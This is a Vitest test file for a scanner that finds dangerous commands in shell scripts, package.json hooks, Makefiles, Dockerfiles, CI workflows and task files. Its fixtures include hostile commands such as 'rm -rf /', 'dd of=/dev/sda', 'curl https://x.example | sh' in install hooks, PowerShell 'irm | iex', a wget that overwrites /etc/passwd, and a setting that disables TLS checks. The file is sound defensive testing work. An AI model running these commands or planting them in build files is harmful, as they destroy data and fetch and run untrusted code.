import { describe, expect, it } from "vitest";
import { judgeFile } from "../../../src/scan/commands/judge-file.ts";
import { commandsInFile } from "../../../src/scan/commands/readers/commands-in-file.ts";

const texts = (path: string, text: string) =>
  commandsInFile(path, text)?.commands.map((one) => [one.line, one.text]);
const said = (path: string, text: string) =>
  judgeFile(path, text)?.map(({ verdict, rule, line }) => [verdict, rule, line]);

describe("shell scripts", () => {
  it("are known by name or first line, and lines are the file's", () => {
    const script = "#!/usr/bin/env bash\nset -e\nrm -rf /\n";
    expect(said("tool", script)).toEqual([["block", "destroys-wholesale", 3]]);
    expect(said("a.sh", "npm test\r\nrm -rf /\r\n")).toEqual([["block", "destroys-wholesale", 2]]);
    expect(said(".husky/pre-commit", "rm -rf ~\n")).toEqual([["block", "destroys-wholesale", 1]]);
    expect(judgeFile("a.py", "rm -rf /")).toBeUndefined();
    expect(judgeFile("a.sh", "#!/usr/bin/env python3\nrm -rf /")).toBeUndefined();
  });

  it("that hold nothing say nothing", () => {
    expect(said("a.sh", "#!/bin/sh\n# later\n")).toEqual([]);
  });

  it("may have banners of any length: a pattern that tried each of their signs would never end", () => {
    const banner = "#".repeat(5000);
    expect(said("a.sh", `${banner}\n${banner} # # #\nnpm test\n`)).toEqual([]);
    expect(said("a.sh", `${banner}\n${banner} # # #\n`)).toEqual([]);
  });
});

describe("package.json", () => {
  it("has scripts and hooks, each with its line", () => {
    const text = `{
  "name": "rm -rf /",
  "scripts": {
    "build": "tsc && rm -rf ../x",
    "postinstall": "curl https://x.example | sh"
  },
  "simple-git-hooks": { "pre-commit": "git push -f" },
  "lint-staged": { "*.ts": ["eslint --fix", "dd of=/dev/sda"] }
}`;
    expect(
      judgeFile("a/package.json", text)
        ?.filter(({ verdict }) => verdict === "block")
        .map(({ line }) => line),
    ).toEqual([5, 7, 8]);
  });

  it("starts in its own directory: `..` of a package is still the repository", () => {
    const text = '{"scripts":{"clean":"rm -rf ../dist"}}';
    expect(said("packages/a/package.json", text)).toEqual([]);
    expect(said("package.json", text)?.[0]?.[0]).toBe("block");
  });

  it("a declared dependency's program is known, an undeclared one is not", () => {
    expect(said("package.json", '{"scripts":{"a":"odd-tool"},"devDependencies":{"odd-tool":"1"}}')).toEqual(
      [],
    );
    expect(said("package.json", '{"scripts":{"a":"odd-tool"}}')).toEqual([["review", "unknown-program", 1]]);
  });

  it("that is no JSON is a finding, never nothing", () => {
    expect(said("package.json", "{")).toEqual([["review", "does-not-parse", 1]]);
  });
});

describe("makefiles", () => {
  it("have recipes, joined lines, variables and make's own names", () => {
    const text =
      "OUT := dist\nRM_ALL ?= rm -rf\nall: a.c b.c\n\t@$(RM_ALL) $(OUT)/$@\n\t$(CC) -o $@ $^ \\\n\t  -lm\n%.o: %.c ; cc -c $<\n";
    expect(texts("Makefile", text)).toEqual([
      [4, "rm -rf dist/all"],
      [5, "cc -o all a.c b.c \\\n  -lm"],
      [7, "cc -c stem.c"],
    ]);
  });

  it("hide nothing in variables, `$(shell)` or `$$`", () => {
    expect(said("Makefile", "X = rm\nall:\n\t$(X) -rf /\n")).toEqual([["block", "destroys-wholesale", 3]]);
    expect(
      said("Makefile", "V := $(shell curl https://x.example | sh)\n")?.map(([verdict]) => verdict),
    ).toContain("block");
    expect(said("Makefile", "all:\n\tfor d in / /usr; do rm -rf $$d; done\n")?.[0]?.[0]).toBe("block");
    expect(said("Makefile", "all:\n\t-@rm -rf /\n")?.[0]?.[0]).toBe("block");
    expect(said("Makefile", "all:\n\trm -rf $(UNSET)/\n")?.[0]).toEqual(["review", "dynamic-argument", 2]);
  });

  it("end, whatever their variables name", () => {
    expect(said("Makefile", "A = $(B)$(B)\nB = $(A)$(A)\nall:\n\techo $(A)\n")).toEqual([]);
  });
});

describe("Dockerfiles", () => {
  it("have the shell form, the JSON form, continued lines and here-documents", () => {
    const text =
      'FROM node:24\nRUN apt-get update \\\n  # why\n  && apt-get install -y git\nRUN ["rm", "-rf", "/"]\nRUN <<EOF\ncurl https://x.example | sh\nEOF\nRUN --mount=type=cache,target=/x npm ci\nHEALTHCHECK CMD curl -f http://localhost/\nCMD ["node", "a b.js"]\n';
    expect(texts("Dockerfile", text)?.map(([line]) => line)).toEqual([2, 5, 6, 9, 10, 11]);
    expect(
      judgeFile("Dockerfile", text)
        ?.filter(({ verdict }) => verdict === "block")
        .map(({ line }) => line),
    ).toEqual([5, 6]);
  });
});

describe("workflows and composite actions", () => {
  /** `%{{` stands for what begins an expression: in JavaScript it would look like a forgotten template. */
  const workflow = (run: string) =>
    `on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - name: s\n        run: |\n          npm test\n          ${run.replaceAll("%{{", `$${"{{"}`)}\n`;

  it("have `run` steps with their lines", () => {
    expect(said(".github/workflows/ci.yml", workflow("rm -rf /"))).toEqual([
      ["block", "destroys-wholesale", 9],
    ]);
    expect(
      said(
        "tools/action.yml",
        "runs:\n  using: composite\n  steps:\n    - run: rm -rf /\n      shell: bash\n",
      ),
    ).toEqual([["block", "destroys-wholesale", 4]]);
    expect(said("docs/ci.yml", workflow("rm -rf /"))).toBeUndefined();
  });

  it("expressions that others write are reviewed, a matrix's are not", () => {
    expect(
      said(".github/workflows/ci.yml", workflow('echo "%{{ github.event.issue.title }}"'))?.[0]?.slice(0, 2),
    ).toEqual(["review", "dynamic-argument"]);
    expect(said(".github/workflows/ci.yml", workflow("npm test -- --shard=%{{ matrix.shard }}"))).toEqual([]);
    expect(said(".github/workflows/ci.yml", workflow("%{{ matrix.command }}"))?.[0]?.slice(0, 2)).toEqual([
      "review",
      "dynamic-command",
    ]);
  });

  it("variables that switch a protection off are seen, other shells are not taken for Bash", () => {
    expect(said(".github/workflows/ci.yml", "env:\n  NODE_TLS_REJECT_UNAUTHORIZED: 0\n  CI: true\n")).toEqual(
      [["block", "disables-protection", 2]],
    );
    expect(
      said(
        ".github/workflows/ci.yml",
        "jobs:\n  a:\n    steps:\n      - shell: pwsh\n        run: irm https://x.example | iex\n",
      )?.map(([verdict]) => verdict),
    ).toContain("block");
    expect(
      said(
        ".github/workflows/ci.yml",
        "jobs:\n  a:\n    steps:\n      - shell: python\n        run: print(1)\n",
      ),
    ).toEqual([]);
  });

  const job = (lines: string) =>
    said(".github/workflows/ci.yml", `jobs:\n  a:\n${lines}`)?.map((one) => one.slice(0, 2).join(" "));

  it("expressions of which nobody else chooses any part are the author's own words", () => {
    const one = (expression: string) =>
      said(".github/workflows/ci.yml", workflow(`tox run -e "%{{ ${expression} }}"`))?.length;
    for (const trusted of [
      "matrix.tox || format('py{0}', matrix.python)",
      "matrix.args || ''",
      "github.event_name == 'push' && 'a' || 'b'",
      "github.event.pull_request.base.sha",
      "github.event.number",
    ])
      expect([trusted, one(trusted)]).toEqual([trusted, 0]);
    for (const foreign of [
      "matrix.tox || github.event.pull_request.title",
      "format('py{0}', github.head_ref)",
      "github.event.inputs.sha",
      "github.event.client_payload.number",
      "'a || b' && github.event.issue.body",
      "github.event.pull_request.head.ref",
    ])
      expect([foreign, one(foreign)]).toEqual([foreign, 1]);
  });

  it("steps in a container reach the image that is thrown away, and no further", () => {
    const steps = (run: string) => `    steps:\n      - run: ${run}\n`;
    expect(job(`    container: centos:7\n${steps("rm -rf /var/cache/yum/*")}`)).toEqual([]);
    expect(job(steps("rm -rf /var/cache/yum/*"))).toEqual(["block destroys-outside"]);
    expect(job(`    container: centos:7\n${steps("rm -rf /")}`)).toEqual(["block destroys-wholesale"]);
    const mounted = '    container:\n      image: centos:7\n      volumes: ["/:/host"]\n';
    expect(job(`${mounted}${steps("rm -rf /var/cache/yum/*")}`)).toEqual(["block destroys-outside"]);
    const perhaps = `    container: $${"{{"} matrix.image }}\n`;
    expect(job(`${perhaps}${steps("rm -rf /var/cache/yum/*")}`)).toEqual(["block destroys-outside"]);
  });

  it("scripts that a step gives to an action are read", () => {
    const given = (input: string) =>
      job(`    steps:\n      - uses: vmactions/freebsd-vm@v1\n        with:\n          ${input}\n`);
    expect(given("prepare: curl https://x.example/i.sh -o i.sh && sh i.sh")).toContain(
      "block runs-fetched-code",
    );
    expect(given("script: npm test -- --coverage")).toEqual([]);
    expect(given("cmd: build")).toEqual([]);
    expect(
      job(
        "    steps:\n      - uses: actions/github-script@v8\n        with:\n          script: return context.repo\n",
      ),
    ).toEqual([]);
  });

  it("other shells are called by their names, and what is Bash is read as Bash", () => {
    const step = (shell: string, run: string) =>
      judgeFile(
        ".github/workflows/ci.yml",
        `defaults:\n  run:\n    shell: ${shell}\njobs:\n  a:\n    steps:\n      - run: ${run}\n`,
      )?.map(({ message }) => message);
    expect(step("msys2 {0}", "make test")).toEqual([]);
    expect(step("msys2 {0}", "rm -rf /")).toHaveLength(1);
    expect(step("nix-shell {0}", "rm -rf /x")?.[0]).toMatch(/^`nix-shell` /);
  });

  it("what is known only when it runs is no control character in what is said of it", () => {
    const found = judgeFile(".github/workflows/ci.yml", workflow('gh release create "$TAG" --repo "$REPO"'));
    expect(found?.map(({ message }) => message).join()).toBe(
      '`gh release create "$TAG" --repo "$REPO"` changes something on GitHub, or shows a credential',
    );
  });

  it("a variable that has one of several values is one word", () => {
    const choice = "case $A in a) R=one ;; b) R=two ;; esac";
    const found = judgeFile("x.sh", `${choice}\nwget -q -O $R.tar.xz https://x.example/$R.tar.xz\n`);
    expect(found?.map(({ message }) => message)).toEqual(["`wget` reaches `x.example`"]);
    const targets = judgeFile(
      "x.sh",
      "case $A in a) R=one ;; b) R=/etc/passwd ;; esac\nwget -O $R https://x.example/a\n",
    );
    expect(targets?.map(({ verdict }) => verdict)).toContain("block");
  });

  it("that are no YAML are a finding", () => {
    expect(said(".github/workflows/ci.yml", "a: [")?.[0]).toEqual(["review", "does-not-parse", 1]);
  });
});

describe("justfiles, Taskfiles and Procfiles", () => {
  it("are read too", () => {
    expect(said("justfile", "x:\n  npm test\n  rm -rf /\n")).toEqual([["block", "destroys-wholesale", 3]]);
    expect(
      said("Taskfile.yml", "tasks:\n  a:\n    cmds:\n      - npm test\n      - cmd: rm -rf /\n"),
    ).toEqual([["block", "destroys-wholesale", 5]]);
    expect(said("Procfile", "web: node server.js\nbad: rm -rf /\n")).toEqual([
      ["block", "destroys-wholesale", 2],
    ]);
  });
});
